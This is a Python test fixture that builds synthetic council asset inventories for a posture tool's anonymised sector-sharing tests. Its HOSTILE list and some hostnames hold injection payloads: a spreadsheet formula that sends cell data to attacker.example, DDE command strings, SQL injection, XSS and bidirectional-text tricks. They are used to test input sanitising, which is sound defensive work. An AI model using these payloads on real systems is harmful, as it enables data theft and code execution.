"""Synthetic councils for the sector-sharing tests (issue 17): each a small inventory built the way posture
builds one, with a different mix, and the set of strings in it that identify the council's machines.

Each council is made by the real `posture` command in folders of its own (its machine's keys under its own
XDG folders): an nmap XML file from bench/gen_nmap_xml.py (its hosts count, open ports and seed vary, and
its addresses and names are made the council's own), signed host-agent bundles (Windows XP SP3, Windows 7
SP1 and CentOS 7 PCs and servers, as tests/reports/procurement_estate.py describes them, in varying
numbers), the asset register (owners, business services, sites and serial numbers, several of them
hostile: formulas, markup, control and bidirectional characters), then `posture evaluate`. Every council's
config names it under [report]; only some name it under [share] (the others must stay anonymous).

The addresses are documentation-style 10.x addresses on paper: nothing is scanned, the files are read.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from bench.gen_nmap_xml import write as write_nmap_xml
from scanner.bundles import make_bundle, write_bundle
from tests.conftest import run_posture
from tests.reports.procurement_estate import CENTOS_7, WINDOWS_7, XP, XP_PROGRAMS, _payload

# Owners, services and sites as people type them into registers, and as an attacker would.
HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "<script>alert('owner')</script>",
           "+cmd|' /C calc'!A0", "Robert'); DROP TABLE assets;--", "Depot \u202egnp.exe", "Ünïcödé Depot ☃",
           "@SUM(1+1)*cmd|' /C calc'!A0", "Town Hall\x1b[31m basement"]  # fmt: skip
PLACES = ["Town Hall", "Civic Centre", "Depot", "Library", "Leisure Centre", "Crematorium"]
# Per council: (nmap hosts, open ports per host, XP PCs, Windows 7 PCs, CentOS 7 servers, named when sharing).
MIXES = [(24, 3, 3, 12, 1, True), (60, 2, 0, 4, 6, False), (13, 4, 11, 0, 2, True), (35, 5, 1, 25, 0, False),
         (8, 1, 6, 9, 3, False), (48, 3, 14, 2, 1, True), (17, 2, 2, 2, 2, False), (30, 4, 0, 15, 4, True),
         (5, 5, 9, 1, 0, False), (41, 1, 4, 7, 9, True), (22, 2, 12, 12, 1, False),
         (11, 3, 0, 0, 5, False)]  # fmt: skip
MIN_VERSION = 5  # stated versions this long or longer are searched for ("7.4" is also OpenSSH's cycle name)


@dataclass(frozen=True)
class Council:
    name: str
    folder: Path  # its files: the nmap XML, the bundles, the register, its machine's XDG folders
    db: Path | str  # its inventory: `folder/inventory.db`, or a PostgreSQL URL
    config: Path  # names it under [report]; under [share] only when `shares_name`
    env: dict[str, str]  # its machine's XDG folders (its own signing key): pass to run_posture
    shares_name: bool
    identifying: frozenset[str]  # what must never appear in its summary


def council_env(home: Path) -> dict[str, str]:
    """The XDG folders of a council's machine (posture's data, config with its keys, state)."""
    return {f"XDG_{n}_HOME": str(home / n.lower()) for n in ("DATA", "CONFIG", "STATE")}


def _posture(env: dict[str, str], *args: str, db: Path | str | None = None) -> str:
    done = run_posture(*args, db=db, env=env)
    assert done.returncode == 0, (args, done.stderr)
    return done.stdout


def _nmap(path: Path, n: int, hosts: int, ports: int) -> tuple[Path, set[str], list[str]]:
    """bench/gen_nmap_xml.py's file with the council's own addresses and names; (file, strings, addresses)."""
    plain = path.with_suffix(".plain.xml")
    write_nmap_xml(plain, hosts=hosts, ports_per_host=ports, seed=100 + n)
    text = plain.read_text(encoding="utf-8")
    text = text.replace('addr="10.0.', f'addr="10.{n + 40}.').replace(".council.example", f".c{n}.council.example")
    text = text.replace('addr="00:1A:2B:', f'addr="02:C{n % 10}:{n:02X}:')
    path.write_text(text, encoding="utf-8")
    addresses = re.findall(r'addr="(10\.[0-9.]+)"', text)
    found = {*addresses, *re.findall(r'hostname name="([^"]+)"', text), *re.findall(r'osmatch name="([^"]+)"', text)}
    macs = re.findall(r'addr="([0-9A-F:]{17})"', text)
    found |= {*macs, *(m.lower() for m in macs)}
    found |= {v for v in re.findall(r' version="([^"]+)"', text) if len(v) >= MIN_VERSION and v != "1.05"}
    return path, found, addresses


def build_council(root: Path, n: int, store: Callable[[Path], Path | str] | None = None) -> Council:
    """Council number `n` (0 to len(MIXES) - 1) under `root`; its inventory `store(folder)` (a file or a
    PostgreSQL URL), else `folder/inventory.db`."""
    hosts, ports, xp, w7, centos, shares = MIXES[n]
    name = f"Testshire {chr(65 + n)} District Council"
    folder = root / f"council-{n:02d}"
    folder.mkdir(parents=True)
    env = council_env(folder / "home")
    db = store(folder) if store else folder / "inventory.db"
    identifying: set[str] = set() if shares else {name}
    _posture(env, "keys", "generate")
    _posture(env, "keys", "trust", str(folder / "home" / "config" / "posture" / "keys" / "signing.pub"),
             "--name", "self")  # fmt: skip
    xml, said, addresses = _nmap(folder / "scan.xml", n, hosts, ports)
    identifying |= said
    _posture(env, "import", "nmap", str(xml), db=db)

    payloads: list[dict[str, Any]] = []
    for kind, count, os_info, programs in (("xp", xp, XP, XP_PROGRAMS), ("w7", w7, WINDOWS_7, []),
                                           ("c7", centos, CENTOS_7, [])):  # fmt: skip
        for k in range(count):
            host = f"{kind}-{k:03d}.ad.c{n}.council.example"
            if k == 0:  # a hostile name, as a compromised or misconfigured machine could state it
                host = f"<img src=x onerror=alert({n})>-{kind}"
            address, mac = f"10.{n + 140}.{len(payloads) // 200}.{len(payloads) % 200 + 1}", \
                f"02:5E:{n:02X}:{len(payloads) // 256:02X}:{len(payloads) % 256:02X}:0{k % 10}"  # fmt: skip
            payload = _payload(f"{host}-{n}", address, mac, os_info, programs)
            payload["host"]["hostnames"] = [host]
            if kind == "c7":
                payload["packages"] = [{"manager": "rpm", "name": "openssl", "version": "1.0.2k-26.el7_9",
                                        "arch": "x86_64"}]  # fmt: skip
                identifying.add("1.0.2k-26.el7_9")
            payloads.append(payload)
            identifying |= {host, address, mac, mac.lower(), payload["host"]["machine_id"], os_info["pretty_name"]}
            identifying |= set(programs)
    if payloads:
        bundles = []
        for k, payload in enumerate(payloads):
            bundles.append(folder / f"host{k}.bundle")
            with pytest.MonkeyPatch.context() as here:  # signed with the council's own key
                for key, value in env.items():
                    here.setenv(key, value)
                write_bundle(bundles[-1], make_bundle(payload))
        _posture(env, "import", "bundle", *map(str, bundles), db=db)

    register = folder / "register.csv"
    with register.open("w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(["IP Address", "Owner", "Business Service", "Site", "Serial Number"])
        for k, address in enumerate(addresses[: max(4, len(addresses) // 2)]):
            hostile = HOSTILE[(n + k) % len(HOSTILE)]
            row = [address, f"{hostile} team {n}" if k % 3 == 0 else f"Revenues {n}-{k}",
                   f"Council Tax {n}-{k}", f"{PLACES[k % len(PLACES)]} {n}-{k}" if k % 4 else f"{hostile} {n}",
                   f"SN{n:02d}{k:05d}X"]  # fmt: skip
            out.writerow(row)
            identifying |= {c.replace("\x1b", "") for c in row[1:]} | {row[1], row[3]}
    _posture(env, "import", "assets", str(register), db=db)

    config = folder / "config.toml"
    config.write_text(f'[report]\norganisation = "{name}"\n' + (f'[share]\norganisation = "{name}"\n' if shares
                                                                 else ""), encoding="utf-8")  # fmt: skip
    _posture(env, "--config", str(config), "evaluate", db=db)
    return Council(name, folder, db, config, env, shares, frozenset(identifying))


def build_councils(root: Path, count: int = len(MIXES), store: Callable[[Path], Path | str] | None = None,
                   ) -> list[Council]:  # fmt: skip
    """The first `count` councils (at most len(MIXES)), each in its own folder under `root` (and inventory
    `store(folder)`, else a file there)."""
    return [build_council(root, n, store) for n in range(count)]

